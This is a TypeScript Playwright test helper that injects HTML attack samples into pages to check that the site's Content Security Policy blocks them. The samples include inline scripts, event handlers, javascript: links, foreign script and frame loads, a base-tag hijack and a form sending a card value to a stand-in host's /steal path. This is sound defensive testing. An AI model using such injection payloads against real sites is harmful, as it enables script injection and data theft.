import type { Page } from '@playwright/test';

/** A host that no page uses. */
const FOREIGN = 'https://foreign.example';

/** Attacks by injected HTML. Each leaves a trace if it succeeds. */
const INJECTED = `
<script>document.documentElement.dataset.inline = 'ran'</script>
<img src="/favicon.svg" alt="" onload="document.documentElement.dataset.handler = 'ran'">
<a id="injected-link" href="javascript:void(document.documentElement.dataset.scheme = 'ran')">a</a>
<script src="${FOREIGN}/script.js"></script>
<link rel="stylesheet" href="${FOREIGN}/style.css">
<img src="${FOREIGN}/image.png" alt="">
<iframe src="${FOREIGN}/frame" title="frame"></iframe>
<object data="${FOREIGN}/object"></object>
<base href="${FOREIGN}/">
<form id="injected-form" action="${FOREIGN}/steal"><input name="card" value="4111"></form>`;

/**
 * Attacks by HTML that is injected before the policy's meta element, which is then not in the head
 * any more, so that only the policy of the HTTP header applies.
 */
const INJECTED_BEFORE_POLICY = `
<base href="${FOREIGN}/">
<object data="${FOREIGN}/object"></object>
<a id="injected-link" href="#main">a</a>
<form id="injected-form" action="${FOREIGN}/steal"><input name="card" value="4111"></form>`;

/** The place of the injected HTML. */
export type InjectionPoint = 'main' | 'before-policy';

const INJECT: Record<InjectionPoint, (html: string) => string> = {
  main: (html) => html.replace('</main>', `${INJECTED}</main>`),
  'before-policy': (html) => html.replace('<head>', `<head>${INJECTED_BEFORE_POLICY}`),
};

/** The directives that blocked an attack, and the traces of attacks that succeeded. */
interface Outcome {
  readonly blocked: readonly string[];
  readonly passed: readonly string[];
}

/** Serves the page at `path` with the injected HTML and unchanged headers. */
async function serveInjected(page: Page, path: string, point: InjectionPoint): Promise<void> {
  await page.route(
    (url) => url.pathname === path,
    async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      await route.fulfill({ response, body: INJECT[point](html) });
    },
    { times: 1 },
  );
}

/** Records requests to the foreign host and answers them, so that only the policy can block them. */
async function answerForeign(page: Page, reached: string[]): Promise<void> {
  await page.route(`${FOREIGN}/**`, async (route) => {
    reached.push(new URL(route.request().url()).pathname);
    await route.fulfill({ body: "document.documentElement.dataset.foreign = 'ran'" });
  });
}

/** Records the directive of every policy violation. */
async function recordViolations(page: Page, blocked: string[]): Promise<void> {
  await page.exposeFunction('reportBlocked', (directive: string) => {
    blocked.push(directive);
  });
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      const report: unknown = Reflect.get(window, 'reportBlocked');
      if (typeof report === 'function') report(effectiveDirective);
    });
  });
}

/** Prepares the page. @returns a function that opens a path and triggers the injected attacks. */
export async function prepareInjection(
  page: Page,
  point: InjectionPoint = 'main',
): Promise<(path: string) => Promise<Outcome>> {
  const reached: string[] = [];
  const blocked: string[] = [];
  await answerForeign(page, reached);
  await recordViolations(page, blocked);

  return async (path) => {
    reached.length = 0;
    blocked.length = 0;
    await serveInjected(page, path, point);
    await page.goto(path);
    await page.locator('#injected-link').dispatchEvent('click');
    const { ran, base } = await page.evaluate(() => ({
      ran: Object.keys({ ...document.documentElement.dataset }),
      base: document.baseURI,
    }));
    await page.locator('#injected-form').evaluate((form) => {
      // Not requestSubmit: listeners of the page could stop it.
      if (form instanceof HTMLFormElement) form.submit();
    });
    const traces = ran.filter((name) => ['inline', 'handler', 'scheme', 'foreign'].includes(name));
    return {
      blocked,
      passed: [...traces, ...reached, ...(base.startsWith(FOREIGN) ? [base] : [])],
    };
  };
}
